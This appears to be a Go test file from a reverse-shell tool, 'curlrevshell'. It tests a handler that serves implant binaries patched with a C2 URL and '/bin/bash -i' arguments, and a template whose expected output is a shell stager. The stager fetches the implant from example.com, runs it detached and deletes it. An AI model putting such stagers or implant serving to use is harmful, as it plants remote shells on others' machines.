@@ -0,0 +1,167 @@
+package hsrv
+
+/*
+ * binary_test.go
+ * Tests for binary.go
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"bytes"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"text/template"
+
+	"github.com/magisterquis/curlrevshell/lib/opshell"
+	"github.com/magisterquis/curlrevshell/lib/simpleshell"
+)
+
+func TestServerBinaryHandler(t *testing.T) {
+	cl, _, och, s, _ := newTestServerMaybeWithDir(t, false, true)
+	var (
+		name = "simpleshell-Linux-x86_64"
+		have = []byte("\x7fELF" + simpleshell.EmptyConfigSlot + "junk")
+		args = "|/bin/bash|-i"
+	)
+	if err := os.WriteFile(
+		filepath.Join(s.bdir, name),
+		have,
+		0700,
+	); nil != err {
+		t.Fatalf("Error writing binary: %s", err)
+	}
+
+	t.Run("patched", func(t *testing.T) {
+		rr := httptest.NewRecorder()
+		rr.Body = new(bytes.Buffer)
+		uri := "/b/" + name + "?" + ArgsParam + "=" +
+			url.QueryEscape(args)
+		req := httptest.NewRequest(http.MethodGet, uri, nil)
+		req.SetPathValue(nameParam, name)
+		s.binaryHandler(rr, req)
+		if http.StatusOK != rr.Code {
+			t.Errorf("Non-OK Code %d", rr.Code)
+		}
+		want, err := simpleshell.PatchConfigSlots(have, url.Values{
+			simpleshell.ConfigSlotC2: {"https://example.com/io"},
+			simpleshell.ConfigSlotFingerprint: {
+				s.l.Fingerprint,
+			},
+			simpleshell.ConfigSlotArgs:    {args},
+			simpleshell.ConfigSlotFraming: {"1"},
+		})
+		if nil != err {
+			t.Fatalf("Error patching expected binary: %s", err)
+		}
+		if got := rr.Body.Bytes(); !bytes.Equal(got, want) {
+			t.Errorf(
+				"Incorrect body:\n got: %q\nwant: %q",
+				got,
+				want,
+			)
+		}
+		wantLog := opshell.CLine{
+			Color: FileColor,
+			Line: "[192.0.2.1] Sent binary " + name +
+				": URL:example.com",
+		}
+		if got := <-och; got != wantLog {
+			t.Errorf(
+				"Incorrect log message:\n got: %#v\nwant: %#v",
+				got,
+				wantLog,
+			)
+		}
+		cl.ExpectEmpty(
+			t,
+			`{"time":"","level":"INFO","msg":"Binary requested",`+
+				`"http_request":{`+
+				`"remote_addr":"192.0.2.1:1234",`+
+				`"method":"GET","request_uri":"`+uri+`",`+
+				`"protocol":"HTTP/1.1","host":"example.com",`+
+				`"sni":"","user_agent":"","id":""},`+
+				`"binaries_dir":"`+s.bdir+`",`+
+				`"binary":"`+name+`","c2":"example.com"}`,
+		)
+	})
+
+	for _, c := range []struct {
+		name    string
+		have    string
+		wantLog string
+	}{{
+		name: "not_found",
+		have: "nope",
+		wantLog: "[192.0.2.1] Binary " +
+			filepath.Join(s.bdir, "nope") + " not found",
+	}, {
+		name: "escape",
+		have: "../" + filepath.Base(s.bdir),
+		wantLog: `[192.0.2.1] Invalid binary name "../` +
+			filepath.Base(s.bdir) + `"`,
+	}} {
+		t.Run(c.name, func(t *testing.T) {
+			rr := httptest.NewRecorder()
+			req := httptest.NewRequest(
+				http.MethodGet,
+				"/b/"+url.PathEscape(c.have),
+				nil,
+			)
+			req.SetPathValue(nameParam, c.have)
+			s.binaryHandler(rr, req)
+			if http.StatusNotFound != rr.Code {
+				t.Errorf("Incorrect code %d", rr.Code)
+			}
+			wantLog := opshell.CLine{
+				Color: ErrorColor,
+				Line:  c.wantLog,
+			}
+			if got := <-och; got != wantLog {
+				t.Errorf(
+					"Incorrect log message:\n"+
+						" got: %#v\n"+
+						"want: %#v",
+					got,
+					wantLog,
+				)
+			}
+			cl.ExpectEmpty(t)
+		})
+	}
+}
+
+func TestBinaryTemplate(t *testing.T) {
+	var sb strings.Builder
+	if err := template.Must(
+		template.New("").Parse(BinaryTemplate),
+	).Execute(&sb, TemplateParams{
+		PubkeyFP: "xxx=",
+		URL:      "example.com",
+		ID:       "IDID",
+	}); nil != err {
+		t.Fatalf("Error executing template: %s", err)
+	}
+	want := `#!/bin/sh
+
+F="$(mktemp)" &&
+curl -fsk --pinnedpubkey "sha256//xxx=" https://example.com/b/simpleshell-"$(uname -s)-$(uname -m)" -o "$F" &&
+chmod 0700 "$F" &&
+{ "$F" </dev/null >/dev/null 2>&1 & sleep 1; rm -f "$F"; }
+`
+	if got := sb.String(); got != want {
+		t.Errorf(
+			"Incorrect script:\n"+
+				" got:\n%s\n"+
+				"want:\n%s",
+			got,
+			want,
+		)
+	}
+}